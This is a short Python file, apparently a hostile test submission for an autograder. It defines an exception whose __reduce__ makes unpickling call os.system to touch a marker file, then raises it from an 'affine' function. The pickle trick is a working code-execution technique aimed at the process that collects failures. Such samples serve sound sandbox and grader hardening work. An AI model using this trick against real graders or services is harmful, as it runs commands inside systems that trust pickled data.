"""Raises an exception whose pickle runs a command in the process that collects failures."""

import os


class Evil(Exception):
    def __reduce__(self):
        return os.system, (f"touch {COURSE}/{MARK}",)


def affine(x, w, b):
    raise Evil("look at me")
